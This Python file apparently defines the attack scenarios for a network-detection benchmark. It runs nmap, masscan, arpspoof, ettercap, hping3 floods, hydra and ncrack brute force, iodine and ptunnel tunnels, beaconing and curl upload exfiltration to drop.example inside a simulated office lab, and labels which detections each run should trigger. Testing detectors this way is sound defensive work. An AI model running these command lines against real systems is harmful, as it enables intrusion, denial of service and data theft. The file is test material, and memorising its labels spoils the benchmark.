"""What is done to the office, by which tool, and which families of ours would be right.

Rates, counts and times are bounded. `pc3` does it all: it has lived there as everybody else, and is silent else while
attacks are recorded.
"""

from __future__ import annotations

import signal
import time
from dataclasses import dataclass
from random import Random
from typing import TYPE_CHECKING, Final

from benchmarks.real_tools.office import OUTSIDE_HOSTS, SITES, address

if TYPE_CHECKING:
    from collections.abc import Callable

    from benchmarks.real_tools.office import Office

SRV, GW, NAS, PC1, PC3 = (address(host) for host in ("srv", "gw", "nas", "pc1", "pc3"))
ATTACKER = (PC3, "02:1d:77:0a:00:17")
SILENT = "198.51.100.200"
"""Nobody has it: what is sent there is swallowed."""
NOTHING: Final = ""
_NAME_SERVER: Final = ("iodined", "-f", "-c", "-P", "x1", "-l", OUTSIDE_HOSTS[0], "10.9.9.1/24", "t.example")
"""Of `t.example`, outside."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One run of one tool."""

    name: str
    families: str
    """Those that would be right, with a bar between; empty = nothing is to be told."""
    act: Callable[[Office], None]
    stretch: float = 1.0
    """How many times longer it takes when it is judged: a slow attack is recorded fast."""
    culprits: tuple[str, ...] = ATTACKER
    """As an incident may name them; empty = anybody."""


def _tool(line: str, seconds: float = 45) -> Callable[[Office], None]:
    return lambda office: office.shell("pc3", line, seconds)


def _nmap(line: str) -> Callable[[Office], None]:
    return _tool(f"nmap -n -Pn --max-rate 600 {line}")


def _hping(line: str) -> Callable[[Office], None]:
    return _tool(f"hping3 -q -i u1000 {line}", 25)


def _guessing(line: str, seconds: float) -> Callable[[Office], None]:
    """With 4,000 passwords in a file that `line` calls "guesses"."""

    def act(office: Office) -> None:
        guesses = office.folder / "guesses"
        guesses.write_text("".join(f"summer{number}\n" for number in range(4_000)))
        office.shell("pc3", f"cd {office.folder} && {line}", seconds)

    return act


def _hydra(line: str, seconds: float = 35) -> Callable[[Office], None]:
    return _guessing(f"hydra -P guesses -I {line}", seconds)


def _key_login(line: str) -> Callable[[Office], None]:
    return lambda office: office.shell("pc3", line.replace("SSH", f"ssh {' '.join(office.ssh)}"))


def _between(*command: str) -> Callable[[Office], None]:
    def act(office: Office) -> None:
        office.forward("pc3")
        spoofer = office.start("pc3", *command)
        for _ in range(5):
            time.sleep(3)
            office.run("pc1", "curl", "-s", "-o", "/dev/null", "http://site5.example/20000")
        office.end(spoofer, signal.SIGINT)

    return act


def _iodine(line: str, *options: str) -> Callable[[Office], None]:
    def act(office: Office) -> None:
        far = office.start("net", *_NAME_SERVER)
        time.sleep(0.5)
        near = office.start("pc3", "iodine", "-f", "-P", "x1", "-r", *options, GW, "t.example")
        time.sleep(8)
        office.shell("pc3", line.replace("SSH", f"ssh {' '.join(office.ssh)}"), 40)
        office.end(near)
        office.end(far)

    return act


def _ptunnel(office: Office) -> None:
    end = OUTSIDE_HOSTS[1]
    far = office.start("net", "ptunnel")
    time.sleep(0.5)
    near = office.start("pc3", "ptunnel", "-p", end, "-lp", "8000", "-da", end, "-dp", "22")
    time.sleep(1)
    told = "'cat > /dev/null; ls -lR /usr/lib | head -800; sleep 5; ls'"
    office.shell(
        "pc3", f"head -c 60000 /dev/zero | ssh -p 8000 {' '.join(office.ssh)} root@127.0.0.1 {told}", 30
    )
    office.end(near)
    office.end(far)


def _names(make: Callable[[Random], str], kind: str = "A") -> Callable[[Office], None]:
    def act(office: Office) -> None:
        random = Random(11)
        far = office.start("net", *_NAME_SERVER)
        for _ in range(60):
            office.run("pc3", "dig", "+short", "+tries=1", "+time=1", kind, make(random))
            time.sleep(0.3)
        office.end(far)

    return act


def _chance(random: Random) -> str:
    return "".join(random.choices("abcdefghijklmnopqrstuvwxyz", k=random.randint(10, 16))) + ".com"


def _words(random: Random) -> str:
    words = ("cloud", "river", "stone", "paper", "green", "silver", "market", "happy", "winter", "garden")
    return f"{random.choice(words)}{random.choice(words)}.net"


def _beacon(jitter: float) -> Callable[[Office], None]:
    def act(office: Office) -> None:
        random = Random(5)
        for _ in range(40):
            due = time.monotonic() + 1.5 * (1 + random.uniform(-jitter, jitter))
            size = random.choice((512, 512, 512, 600))
            office.run("pc3", "curl", "-sk", "-o", "/dev/null", f"https://drop.example/poll/{size}")
            time.sleep(max(0.0, due - time.monotonic()))

    return act


def _upload(megabytes: int, *sites: str, rate: str = "4M") -> Callable[[Office], None]:
    def act(office: Office) -> None:
        for site in sites:
            put = f"curl -sk --limit-rate {rate} -m 55 -T $f -o /dev/null https://{site}/up"
            office.shell("pc3", f"f=$(mktemp); head -c {megabytes}M /dev/urandom > $f; {put}; rm $f", 60)

    return act


def _stranger(office: Office) -> None:
    office.join("rogue", "a4:83:e7:12:34:56")
    office.shell("rogue", "dhclient -1 -sf /bin/true -lf /dev/null -pf /dev/null eth0", 20)
    office.number("rogue", 166)
    office.run("rogue", "curl", "-sk", "-o", "/dev/null", "https://site3.example/50000")


def _service(office: Office) -> None:
    started = office.start("pc1", "python3", "-m", "http.server", "8888", "--directory", "/usr/share/doc")
    for _ in range(3):
        time.sleep(1)
        office.run("pc2", "curl", "-s", "-o", "/dev/null", f"http://{PC1}:8888/")
    office.end(started)


def _rogue_dhcp(office: Office) -> None:
    own = ("-p", "0", f"--dhcp-option=3,{PC3}", f"--dhcp-option=6,{PC3}", "--dhcp-authoritative")
    files = (f"--pid-file={office.folder}/rogue.pid", f"--dhcp-leasefile={office.folder}/rogue.leases")
    leases = "--dhcp-range=10.77.0.210,10.77.0.220,1h"
    server = office.start("pc3", "dnsmasq", "-k", "-C", "/dev/null", "-R", "-u", "root", *own, *files, leases)
    time.sleep(1)
    for host in ("pc2", "pc1"):
        office.shell(host, "timeout 6 dhclient -d -1 -sf /bin/true -lf /dev/null -pf /dev/null eth0", 10)
    office.end(server)


_SWEEPS = "arp sweep|host sweep"
_VICTIM = (SRV,)
ATTACKS: Final = (
    Attack("nmap -sS", "port scan", _nmap(f"-sS {SRV}")),
    Attack("nmap -sT", "port scan", _nmap(f"-sT -p1-200 {SRV}")),
    Attack("nmap -sU", "port scan", _nmap(f"-sU --top-ports 60 --host-timeout 40s {SRV}")),
    Attack("nmap -T2", "port scan", _tool(f"nmap -n -Pn -sS -T2 -p1-90 {SRV}")),
    Attack("nmap, a port in 15 s", "port scan", _tool(f"nmap -n -Pn -sS --scan-delay 1s -p 20-50 {SRV}"), 15),
    Attack("nmap -sN", "port scan", _nmap(f"-sN -p1-100 {SRV}")),
    Attack("nmap -sX", "port scan", _nmap(f"-sX -p1-100 {SRV}")),
    Attack("nmap -sA", "port scan", _nmap(f"-sA -p1-100 {SRV}")),
    Attack("nmap -A", "port scan", _nmap(f"-A -p1-100 {SRV}")),
    Attack("nmap -D (decoys)", "port scan", _nmap(f"-sS -D 10.77.0.21,10.77.0.22,ME -p1-100 {SRV}")),
    Attack("nmap -f (fragments)", "port scan", _nmap(f"-sS -f -p1-100 {SRV}")),
    Attack("nmap, swallowed", "port scan", _nmap(f"-sS -p1-100 --max-retries 1 {SILENT}")),
    Attack("nmap, 20 ports", "port scan", _nmap(f"-sS --top-ports 20 {SRV}")),
    Attack(
        "masscan, ports",
        "port scan",
        _tool(f"masscan {SRV} -p1-600 --rate 200 --wait 2 --router-mac 02:1d:77:0a:00:0a", 20),
    ),
    Attack(
        "masscan, hosts",
        "host sweep",
        _tool("masscan 198.51.100.0/24 -p22,3389 --rate 200 --wait 2 --router-mac 02:1d:77:0a:00:01", 20),
    ),
    Attack("nmap -p445, hosts", "host sweep", _nmap("-p 445 --max-retries 1 198.51.100.128/26")),
    Attack("nmap -sn, outside", "host sweep", _tool("nmap -n -sn --max-rate 100 198.51.100.0/26")),
    Attack("fping, outside", "host sweep", _tool("fping -q -r0 -i20 -g 198.51.100.100/26")),
    Attack("nmap -p22, inside", _SWEEPS, _tool("nmap -n -p 22 10.77.0.0/24")),
    Attack("fping, inside", _SWEEPS, _tool("fping -q -r0 -i20 -g 10.77.0.0/25")),
    Attack("nmap -sn, inside", "arp sweep", _tool("nmap -n -sn 10.77.0.0/24")),
    Attack("arp-scan", "arp sweep", _tool("arp-scan -I eth0 -r 1 10.77.0.0/24")),
    Attack("arp-scan, 1 a second", "arp sweep", _tool("arp-scan -I eth0 -r 1 -i 100 10.77.0.0/25"), 10),
    Attack(
        "netdiscover",
        "arp sweep",
        _tool("timeout 12 netdiscover -P -i eth0 -r 10.77.0.0/24"),
        culprits=(*ATTACKER, "10.77.0.67"),
    ),
    Attack("nbtscan", "arp sweep", _tool("nbtscan 10.77.0.0/25")),
    Attack("arpspoof", "arp spoof", _between("arpspoof", "-i", "eth0", "-t", PC1, "-r", GW)),
    Attack(
        "ettercap",
        "arp spoof",
        _between("ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{PC1}//", f"/{GW}//"),
    ),
    Attack("hping3, connections", "flood", _hping(f"-S -p 80 -c 6000 {SRV}")),
    Attack("hping3, closed port", "flood", _hping(f"-S -p 81 -c 4000 {SRV}")),
    Attack(
        "hping3, forged senders", "flood", _hping(f"-S -p 80 --rand-source -c 3000 {SRV}"), culprits=_VICTIM
    ),
    Attack("hping3, swallowed", "flood", _hping(f"-S -p 80 -c 3000 {SILENT}")),
    Attack("hping3, UDP", "flood", _hping(f"--udp -p 5000 -d 400 -c 5000 {SRV}")),
    Attack("hping3, UDP, ports", "flood|port scan", _hping(f"--udp -p ++1000 -d 400 -c 5000 {SILENT}")),
    Attack("hping3, UDP, one flow", "flood", _hping(f"--udp -p 9999 -s 4000 -k -d 900 -c 5000 {SILENT}")),
    Attack("hping3, pings", "flood", _hping(f"-1 -c 5000 {SRV}")),
    Attack("hping3, ACK", "flood", _hping(f"-A -p 80 -c 5000 {SRV}")),
    Attack("ping -f", "flood", _tool(f"ping -f -c 4000 {SRV}")),
    Attack("ab, 4,000 pages", "flood|brute force", _tool(f"ab -n 4000 -c 50 -s 5 http://{SRV}/100")),
    Attack(
        "slowhttptest",
        "flood|unusual",
        _tool(f"slowhttptest -H -c 200 -r 20 -i 5 -l 40 -u http://{SRV}/", 50),
    ),
    Attack("hydra, SSH", "brute force", _hydra(f"-l root -t 4 ssh://{SRV}", 40)),
    Attack("hydra, FTP", "brute force", _hydra(f"-l root -t 4 ftp://{SRV}", 30)),
    Attack("hydra, HTTP", "brute force", _hydra(f"-l admin -t 4 http-get://{SRV}/private", 25)),
    Attack("ncrack, SSH", "brute force", _guessing(f"ncrack --user root -P guesses -p 22 {SRV}", 40)),
    Attack(
        "iodine, busy",
        "dns tunnel",
        _iodine("head -c 99999 /dev/urandom | SSH root@10.9.9.1 'cat >/dev/null'"),
    ),
    Attack("iodine, idle", "dns tunnel", _iodine("sleep 35")),
    Attack("iodine, short names", "dns tunnel", _iodine("ping -c 20 10.9.9.1", "-M", "60", "-T", "TXT")),
    Attack(
        "dig, 30 characters",
        "dns tunnel",
        _names(lambda random: f"{random.randbytes(15).hex()}.t.example", "TXT"),
    ),
    Attack("dig, generated names", "dga", _names(_chance)),
    Attack("dig, generated words", "dga|nxdomain", _names(_words)),
    Attack("ptunnel", "icmp tunnel", _ptunnel),
    Attack("ping -s 1000", "icmp tunnel", _tool(f"ping -s 1000 -c 60 -i .3 {OUTSIDE_HOSTS[1]}")),
    Attack("curl every 30 s", "beacon", _beacon(0), 20),
    Attack("curl every 30 s ± 10 %", "beacon", _beacon(0.1), 20),
    Attack("curl every 15 s ± 30 %", "beacon", _beacon(0.3), 10),
    Attack("curl, 60 MB sent", "upload burst|exfiltration", _upload(60, "drop.example")),
    Attack("curl, 64 MB to eight", "upload burst|exfiltration", _upload(8, *list(SITES)[:8])),
    Attack("a new device", "new device", _stranger, culprits=("10.77.0.166", "a4:83:e7:12:34:56")),
    Attack("a new service", "new service", _service, culprits=(PC1,)),
    Attack("a second DHCP server", "new service|unusual", _rogue_dhcp),
    Attack(
        "60 MB to a server inside",
        NOTHING,
        _key_login(f"head -c 60M /dev/zero | SSH root@{NAS} 'cat >/dev/null'"),
    ),
    Attack(
        "nine logins with a key",
        NOTHING,
        _key_login(
            f"for i in 1 2 3; do for h in {SRV} {NAS} 198.51.100.11; do SSH root@$h uptime; done; done"
        ),
    ),
    Attack(
        "six hosts watched by ping",
        NOTHING,
        _tool(
            f"for i in 1 2 3 4 5; do fping -q -r0 {GW} {SRV} {NAS} {PC1} 10.77.0.22 10.77.0.31; sleep 3; done"
        ),
    ),
    Attack("ab, 200 pages", NOTHING, _tool(f"ab -n 200 -c 4 http://{SRV}/2000")),
    Attack("40 MB fetched", NOTHING, _tool("wget -q -O /dev/null http://site7.example/40000000")),
)
